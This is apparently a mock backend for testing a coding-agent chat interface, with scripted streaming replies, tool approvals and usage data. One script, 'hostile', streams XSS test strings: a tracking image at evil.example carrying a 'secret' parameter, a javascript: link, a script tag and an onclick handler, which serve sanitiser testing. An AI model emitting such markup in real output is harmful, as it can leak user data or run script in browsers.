// The agent of the stand-in server: its routes, and a played engineer that follows a script, chosen by a word of
// what it is told: "ask", "fail", "interrupt", "slow", "hostile"; anything else is the whole of a small task.

import { readUIMessageStream } from 'ai'

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
const now = () => new Date().toISOString()

const models = [
  { id: 'anthropic/claude-sonnet-4.5', name: 'Claude Sonnet 4.5', inputPrice: 3, outputPrice: 15 },
  { id: 'openai/gpt-5-mini', name: 'GPT-5 mini', inputPrice: 0.25, outputPrice: 2 },
  {
    id: 'qwen/qwen3-coder',
    name: 'Qwen3 Coder with a rather long name for its size',
    inputPrice: 0.22,
    outputPrice: 0.95,
  },
].map((model) => ({ context: 200_000, reasoning: true, ...model }))

export function makeAgent() {
  return { configured: true, ownKeys: true, keyEnd: '', chats: new Map(), runs: new Map(), log: [] }
}

const diff = `--- a/cart/total.js
+++ b/cart/total.js
@@ -1,9 +1,10 @@
 export function total(items) {
-  let sum = 0
-  for (const item of items) sum += item.price
-  return sum
+  // Amounts are in cents: fractions of a euro do not add up.
+  return items.reduce((sum, { price, count = 1 }) => sum + price * count, 0)
 }

 export function format(cents) {
-  return cents / 100 + ' €'
+  const whole = Math.trunc(cents / 100)
+  const rest = String(Math.abs(cents % 100)).padStart(2, '0')
+  return \`\${whole}.\${rest} €\`
 }
@@ -30,3 +31,3 @@ export class Cart {
   clear() {
-    this.items = null
+    this.items = []
   }
`

const added = `--- /dev/null
+++ b/cart/total.test.js
@@ -0,0 +1,5 @@
+import { total } from './total.js'
+
+test('counts are counted', () => {
+  expect(total([{ price: 250, count: 3 }])).toBe(750)
+})
`

const answer = `The test passes now. There were **two faults**:

1. \`total\` left the count of an item out.
2. \`format\` divided cents, so \`1050\` became \`10.5 €\`.

\`\`\`js
export function total(items) {
  return items.reduce((sum, { price, count = 1 }) => sum + price * count, 0)
}
\`\`\`

| case | before | after |
| --- | ---: | ---: |
| one item | 2.50 € | 2.50 € |
| three of one | 2.50 € | 7.50 € |

> Prices are in cents everywhere now.

See [the documentation](https://nodejs.org/api/test.html) of the test runner.`

const hostile = `Look: ![a picture](https://evil.example/track.png?secret=1) and <img src="https://evil.example/x.png">.

[Click me](javascript:alert(1)), [main.js](src/main.js), [sign in](/settings/tokens), <https://example.com/a>.

<script>alert(1)</script> <b onclick="alert(2)">bold</b> and \`Vec<String>\`.`

let counter = 0
const newId = (kind) => `${kind}-${Date.now().toString(36)}${(counter++).toString(36)}`

/** A run: what it said so far, whoever reads along, and the message that it writes. */
function startRun(agent, chat, message) {
  const run = {
    frames: [],
    readers: new Set(),
    over: false,
    stopped: false,
    message,
    base: structuredClone(message),
  }
  const write = (response, chunk) => response.write(`data: ${JSON.stringify(chunk)}\n\n`)
  run.push = (chunk) => {
    run.frames.push(chunk)
    for (const reader of run.readers) write(reader, chunk)
  }
  run.read = (response, replay) => {
    response.writeHead(200, {
      'Content-Type': 'text/event-stream',
      'Cache-Control': 'no-cache',
      'X-Vercel-Ai-Ui-Message-Stream': 'v1',
    })
    for (const chunk of replay ? replayed(run) : run.frames) write(response, chunk)
    if (run.over) return end(response)
    run.readers.add(response)
    response.on('close', () => run.readers.delete(response))
  }
  run.end = async () => {
    run.over = true
    const chunks = run.frames.filter(({ transient }) => !transient)
    const stream = new ReadableStream({
      start(controller) {
        for (const chunk of chunks) controller.enqueue(chunk)
        controller.close()
      },
    })
    try {
      for await (const state of readUIMessageStream({ message: structuredClone(run.base), stream }))
        run.message = state
    } catch {
      // An error in the stream ends the message.
    }
    const index = chat.messages.findIndex(({ id }) => id === run.message.id)
    if (index < 0) chat.messages.push(run.message)
    else chat.messages[index] = run.message
    chat.updatedAt = now()
    agent.runs.delete(chat.id)
    for (const reader of run.readers) end(reader)
  }
  const end = (response) => response.end('data: [DONE]\n\n')
  agent.runs.set(chat.id, run)
  return run
}

/** What a client is sent that begins to read in the middle: the message as it was, then what the run said. */
function* replayed({ base, frames }) {
  const [start, ...rest] = frames
  if (start) yield start
  for (const [index, part] of base.parts.entries()) {
    if (part.type === 'step-start') yield { type: 'start-step' }
    else if (part.type === 'text' || part.type === 'reasoning') {
      yield { type: `${part.type}-start`, id: `b${index}` }
      yield { type: `${part.type}-delta`, id: `b${index}`, delta: part.text }
      yield { type: `${part.type}-end`, id: `b${index}` }
    } else if (part.type.startsWith('tool-')) {
      const { toolCallId, input, output, approval, state } = part
      yield { type: 'tool-input-available', toolCallId, toolName: part.type.slice(5), input }
      if (approval) yield { type: 'tool-approval-request', toolCallId, approvalId: approval.id }
      if (approval?.approved !== undefined)
        yield { type: 'tool-approval-response', approvalId: approval.id, approved: approval.approved }
      if (state === 'output-available') yield { type: 'tool-output-available', toolCallId, output }
    }
  }
  yield* rest
}

const say = async (run, text, kind = 'text') => {
  const id = newId(kind)
  run.push({ type: `${kind}-start`, id })
  for (const word of text.match(/\s*\S+/g)) {
    run.push({ type: `${kind}-delta`, id, delta: word })
    await pause(4)
  }
  run.push({ type: `${kind}-end`, id })
}
const call = (run, toolName, input) => {
  const toolCallId = newId('call')
  run.push({ type: 'tool-input-start', toolCallId, toolName })
  run.push({
    type: 'tool-input-available',
    toolCallId,
    toolName,
    input,
    ...(toolName !== 'ask' && { providerExecuted: true }),
  })
  return toolCallId
}
const output = (run, toolCallId, output) =>
  run.push({ type: 'tool-output-available', toolCallId, output, providerExecuted: true })
const step = (run) => run.push({ type: 'start-step' })
const stepEnd = (run) => run.push({ type: 'finish-step' })
const status = (run, text) => run.push({ type: 'data-status', id: 'status', data: { text }, transient: true })
const finish = (run, finishReason, cost, durationMs = 24_300) => {
  const usage = { input: 18_400, output: 1_250, cached: 12_000, reasoning: 300 }
  run.push({ type: 'message-metadata', messageMetadata: { model: models[0].id, usage, cost, durationMs } })
  run.push({ type: 'finish', finishReason })
}
const approve = (chat, run, toolCallId, reason, suggest) => {
  const approvalId = newId('approval')
  chat.waiting.push({ callId: toolCallId, approvalId, suggest })
  run.push({ type: 'tool-approval-request', approvalId, toolCallId, ...(reason && { reason }) })
}

const todo = (...states) => ({
  items: ['Find the failing test', 'Fix what it finds', 'Run all tests again'].map((text, index) => ({
    text,
    status: states[index],
  })),
})

const scripts = {
  async task(run, { chat, workspace }) {
    if (workspace.state !== 'running') {
      status(run, 'Waking the workspace …')
      await pause(300)
    }
    step(run)
    await say(
      run,
      'The person wants the failing test fixed. I should run it first, then read what it tests.',
      'reasoning',
    )
    await say(run, 'I run the tests first.')
    output(run, call(run, 'todo', todo('in_progress', 'pending', 'pending')), {})
    const tests = call(run, 'runCommand', { command: 'npm test -- --reporter=dot' })
    for (const line of [
      '> vitest run',
      '',
      '\u001b[31m ❯\u001b[0m cart/total.test.js (3 tests | 1 failed)',
      '   × counts are counted',
    ]) {
      run.push({ type: 'data-terminal', data: { callId: tests, text: `${line}\r\n` }, transient: true })
      await pause(60)
    }
    output(run, tests, {
      output:
        '> vitest run\n\n ❯ cart/total.test.js (3 tests | 1 failed)\n   × counts are counted\n     expected 250 to be 750\n',
      exitCode: 1,
      durationMs: 2300,
    })
    stepEnd(run)
    step(run)
    output(run, call(run, 'readFile', { path: 'cart/total.js' }), {
      path: 'cart/total.js',
      line: 1,
      lines: 36,
      total: 36,
    })
    output(run, call(run, 'searchCode', { query: 'total(' }), { matches: 4 })
    output(run, call(run, 'todo', todo('done', 'in_progress', 'pending')), {})
    await say(
      run,
      '`total` does not look at the count of an item. I would change two files and run the tests again.',
    )
    const edit = call(run, 'editFile', {
      path: 'cart/total.js',
      edits: [
        {
          old: '  for (const item of items) sum += item.price',
          new: '  for (const { price, count = 1 } of items) sum += price * count',
        },
      ],
    })
    approve(chat, run, edit, 'It changes a file.', [{ tool: 'editFile' }])
    const again = call(run, 'runCommand', { command: 'npm test && git commit -am "Count the counts"' })
    approve(chat, run, again, 'Not every part of the command is known to be harmless: git commit.', [
      { tool: 'runCommand', command: 'npm test' },
      { tool: 'runCommand', command: 'git commit' },
    ])
    stepEnd(run)
    finish(run, 'tool-calls', 0.0421)
  },
  async approved(run, { chat, answers }) {
    for (const { toolCallId, type, approval } of answers) {
      if (!approval.approved) run.push({ type: 'tool-output-denied', toolCallId })
      else if (type === 'tool-editFile')
        output(run, toolCallId, { path: 'cart/total.js', diff, added: 8, removed: 5 })
      else
        output(run, toolCallId, {
          output: ' ✓ cart/total.test.js (3 tests)\n[main 4f1c2aa] Count the counts\n',
          exitCode: 0,
        })
    }
    step(run)
    if (answers.some(({ approval }) => approval.approved)) {
      output(run, call(run, 'todo', todo('done', 'done', 'done')), {})
      await say(run, answer)
      chat.turns = [
        {
          messageId: run.message.id,
          files: [
            { path: 'cart/total.js', status: 'modified', diff },
            { path: 'cart/total.test.js', status: 'added', diff: added },
            {
              path: 'docs/a/rather/long/path/to/some/picture-of-a-cart.png',
              status: 'modified',
              binary: true,
            },
          ],
        },
      ]
    } else await say(run, 'I changed nothing. What should I do instead?')
    stepEnd(run)
    finish(run, 'stop', 0.0687, 41_900)
  },
  async ask(run) {
    step(run)
    await say(run, 'There are two ways.')
    call(run, 'ask', {
      question: 'Which test runner should the project use?',
      options: [{ label: 'Vitest', description: 'As the other packages do' }, { label: 'node:test' }],
    })
    stepEnd(run)
    finish(run, 'tool-calls', 0.004)
  },
  async answered(run, { told }) {
    step(run)
    await say(run, `${told} it is.`)
    stepEnd(run)
    finish(run, 'stop', 0.006)
  },
  async fail(run) {
    step(run)
    await say(run, 'I look at')
    run.push({
      type: 'error',
      errorText:
        'The model’s provider does not answer (status 502). Try again in a moment, or choose another model.',
    })
  },
  async interrupt(run, { chat }) {
    step(run)
    await say(run, 'I begin, and')
    stepEnd(run)
    chat.state = 'interrupted'
    run.push({ type: 'finish', finishReason: 'interrupted' })
  },
  async slow(run, { chat }) {
    step(run)
    await say(run, 'This takes a while.')
    const sleep = call(run, 'runCommand', {
      command: 'for i in $(seq 100); do echo step $i; sleep 0.1; done',
    })
    for (let i = 1; i <= 100 && !run.stopped; i++) {
      run.push({ type: 'data-terminal', data: { callId: sleep, text: `step ${i}\n` }, transient: true })
      await pause(100)
    }
    output(run, sleep, { output: 'step 1\n…\n', exitCode: 0 })
    for (const { id, text } of chat.queued.splice(0))
      run.push({ type: 'steering-message', id, parts: [{ type: 'text', text }] })
    stepEnd(run)
    if (run.stopped) return run.push({ type: 'abort', reason: 'stopped' })
    step(run)
    await say(run, 'Done.')
    stepEnd(run)
    finish(run, 'stop', 0.01)
  },
  async hostile(run) {
    step(run)
    await say(run, hostile)
    stepEnd(run)
    finish(run, 'stop', 0.001)
  },
  async goOn(run) {
    step(run)
    await say(run, 'I go on where I was, and am done.')
    stepEnd(run)
    finish(run, 'stop', 0.02)
  },
}

const wordOf = (text) => /^(ask|fail|interrupt|slow|hostile)\b/.exec(text.toLowerCase())?.[1] ?? 'task'

const span = (cost, tokens, limitCost, limitTokens) => ({
  cost,
  tokens,
  limitCost,
  limitTokens,
  until: now(),
})
const row = (id, share, name) => ({
  id,
  name,
  calls: Math.round(200 * share),
  input: Math.round(4e6 * share),
  output: Math.round(3e5 * share),
  cached: 0,
  reasoning: 0,
  cost: 9 * share,
  ownCost: share < 0.4 ? 2 * share : 0,
})
const modelRows = models.map(({ id }, index) => row(id, 1 / (index + 1)))
const spans = { day: span(0.83, 412_000, 5, 0), month: span(14.2, 6_120_000, 60, 20_000_000) }

const problem = (status, detail, errors) => [status, { title: 'Refused', status, detail, errors }]

/**
 * Answers a request to the agent: true where it answered, or what is to be sent as [status, body].
 */
export function agentApi(state, request, response, path, body, query) {
  const { agent } = state
  const [, , , id, verb] = path.split('/')
  const { method } = request
  if (id === 'models')
    return [
      200,
      {
        models,
        default: models[0].id,
        mode: 'ask-writes',
        configured: agent.configured,
        ownKeys: agent.ownKeys,
        ownKey: agent.keyEnd !== '',
      },
    ]
  if (id === 'key') {
    if (method === 'PUT' && !body.key.startsWith('sk-')) {
      const message = 'The provider does not take this key. Copy it again from your account there.'
      return problem(422, message, [{ message, location: 'body.key' }])
    }
    if (method !== 'GET') agent.keyEnd = method === 'PUT' ? body.key.slice(-4) : ''
    if (method === 'DELETE') return [204]
    return [200, { set: agent.keyEnd !== '', last: agent.keyEnd }]
  }
  if (id === 'usage')
    return [
      200,
      {
        person: spans,
        ...(query.get('workspace') && { workspace: { day: span(0.5, 200_000), month: span(3, 900_000) } }),
        ownKey: false,
        models: modelRows,
      },
    ]
  if (id === 'chats') {
    const all = [...agent.chats.values()].filter(({ workspace }) => workspace === query.get('workspace'))
    return [200, { chats: all.map(infoOf).sort((a, b) => b.updatedAt.localeCompare(a.updatedAt)) }]
  }
  if (!id) return post(state, response, body)
  const chat = agent.chats.get(id)
  const run = agent.runs.get(id)
  if (verb === 'stream') {
    if (!run) return [204]
    run.read(response, true)
    return true
  }
  if (!chat) return problem(404, 'There is no such chat. It may have been deleted.')
  switch (verb) {
    case 'stop':
      if (run) run.stopped = true
      return [204]
    case 'queue': {
      const made = { id: newId('queued'), text: body.text }
      chat.queued.push(made)
      run?.push({ type: 'data-queue', id: 'queue', data: { queued: chat.queued }, transient: true })
      return [200, { id: made.id }]
    }
    case 'changes':
      return [200, { turns: chat.turns }]
    case 'undo': {
      const [turn] = chat.turns
      const files = turn.files.filter(({ path, undone }) => !undone && (!body.path || body.path === path))
      for (const file of files) if (!file.binary) file.undone = true
      return [
        200,
        {
          files: files.map(({ path, binary }) =>
            binary
              ? { path, result: 'conflict', reason: 'You changed it since, and it is not text.' }
              : { path, result: 'restored' },
          ),
        },
      ]
    }
  }
  if (method === 'PATCH') return [200, infoOf(Object.assign(chat, body))]
  if (method === 'DELETE') {
    agent.chats.delete(id)
    return [204]
  }
  return [200, { chat: infoOf(chat), messages: chat.messages }]
}

const infoOf = ({ messages, turns, ...info }) => info
const last = ({ messages }) => (messages.at(-1)?.role === 'assistant' ? messages.at(-1) : undefined)

function post(state, response, body) {
  const { agent } = state
  agent.log.push(body)
  if (state.agentRefuses) return problem(403, state.agentRefuses)
  if (agent.runs.has(body.id)) return problem(409, 'The agent is at work in this chat. Stop it, or wait.')
  const chat = agent.chats.get(body.id) ?? {
    id: body.id,
    workspace: body.workspace,
    title: '',
    messages: [],
    turns: [],
    queued: [],
    waiting: [],
    createdAt: now(),
  }
  agent.chats.set(chat.id, chat)
  Object.assign(chat, { model: body.model, mode: body.mode, plan: body.plan, updatedAt: now() })
  if (body.continue) {
    play(state, chat, response, 'goOn', { message: last(chat) })
    return true
  }
  const posted = body.messages.at(-1)
  if (posted.role === 'user') {
    const text = posted.parts.map((part) => part.text ?? '').join('')
    chat.title ||= text.slice(0, 60)
    if (body.trigger === 'regenerate-message') {
      while (last(chat)) chat.messages.pop()
      play(state, chat, response, 'hostile', {})
      return true
    }
    chat.messages.push(posted)
    play(state, chat, response, wordOf(text), {})
    return true
  }
  const step = posted.parts.slice(posted.parts.findLastIndex(({ type }) => type === 'step-start') + 1)
  const asked = step.find(({ type }) => type === 'tool-ask')
  const answers = step.filter((part) => part.state === 'approval-responded')
  const index = chat.messages.findIndex(({ id }) => id === posted.id)
  chat.messages[index] = posted
  chat.waiting = []
  play(state, chat, response, asked ? 'answered' : 'approved', {
    message: posted,
    answers,
    told: asked?.output,
  })
  return true
}

function play(state, chat, response, script, { message, ...told }) {
  const workspace = state.workspaces.find(({ id }) => id === chat.workspace)
  const run = startRun(state.agent, chat, message ?? { id: newId('message'), role: 'assistant', parts: [] })
  chat.state = 'running'
  run.read(response, false)
  run.push({ type: 'start', messageId: run.message.id, messageMetadata: { model: chat.model } })
  scripts[script](run, { chat, workspace, ...told }).then(() => {
    if (chat.state === 'running') chat.state = chat.waiting.length > 0 ? 'waiting' : 'idle'
    return run.end()
  })
}

const rows = {
  person: [row('u1', 1, 'Asha Rao'), row('u2', 0.3, 'Ravi Menon'), row('u9gone', 0.01)],
  workspace: [row('k7m2q4xw9a', 1, 'quiet-orchard')],
  model: modelRows,
}

export const adminUsage = (query) => [200, { rows: query.get('since') > '2000' ? rows[query.get('by')] : [] }]
